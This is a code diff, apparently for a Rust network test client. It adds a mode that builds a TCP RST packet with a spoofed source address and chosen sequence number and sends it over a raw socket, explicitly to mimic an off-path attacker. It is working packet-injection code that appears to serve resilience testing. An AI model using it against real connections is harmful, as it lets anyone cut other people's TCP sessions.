@@ -39,6 +39,16 @@ enum Mode {
     /// connect/request/close per request, or request/response over one connection with
     /// --one-flow. The report adds the rate and per-request latency percentiles (`latency`).
     Load(LoadArgs),
+    /// Sends one TCP RST from --from to --to with sequence number --seq through a raw IP socket,
+    /// its source spoofed: what an attacker off the path sends. Prints `sent`.
+    Rst {
+        #[arg(long)]
+        from: std::net::SocketAddrV4,
+        #[arg(long)]
+        to: std::net::SocketAddrV4,
+        #[arg(long)]
+        seq: u32,
+    },
 }
 
 #[derive(clap::Args)]
@@ -95,7 +105,56 @@ fn main() -> anyhow::Result<()> {
         Mode::Tcp(args) => print_report(&tcp_client(&args)),
         Mode::Udp(args) => print_report(&udp_client(&args)?),
         Mode::Load(args) => print_report(&load(&args)),
+        Mode::Rst { from, to, seq } => {
+            send_spoofed_rst(from, to, seq)?;
+            println!("sent");
+            Ok(())
+        }
     }
+}
+
+fn send_spoofed_rst(
+    from: std::net::SocketAddrV4,
+    to: std::net::SocketAddrV4,
+    seq: u32,
+) -> anyhow::Result<()> {
+    use std::os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd};
+    let mut packet = Vec::new();
+    etherparse::PacketBuilder::ipv4(from.ip().octets(), to.ip().octets(), 64)
+        .tcp(from.port(), to.port(), seq, 0)
+        .rst()
+        .write(&mut packet, &[])?;
+    // IPPROTO_RAW implies IP_HDRINCL: the kernel sends the header as built (raw(7)).
+    // SAFETY: plain socket(2); the result is checked before use.
+    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
+    anyhow::ensure!(fd >= 0, "raw socket: {}", std::io::Error::last_os_error());
+    // SAFETY: fd is a socket this process just opened and owns.
+    let socket = unsafe { OwnedFd::from_raw_fd(fd) };
+    let destination = libc::sockaddr_in {
+        sin_family: libc::AF_INET as libc::sa_family_t,
+        sin_port: 0,
+        sin_addr: libc::in_addr {
+            s_addr: u32::from(*to.ip()).to_be(),
+        },
+        sin_zero: [0; 8],
+    };
+    // SAFETY: the buffer and address are valid for the call and their lengths are theirs.
+    let sent = unsafe {
+        libc::sendto(
+            socket.as_raw_fd(),
+            packet.as_ptr().cast(),
+            packet.len(),
+            0,
+            std::ptr::from_ref(&destination).cast(),
+            size_of::<libc::sockaddr_in>() as libc::socklen_t,
+        )
+    };
+    anyhow::ensure!(
+        sent == packet.len() as isize,
+        "sendto: {}",
+        std::io::Error::last_os_error()
+    );
+    Ok(())
 }
 
 fn print_report(report: &ClientReport) -> anyhow::Result<()> {
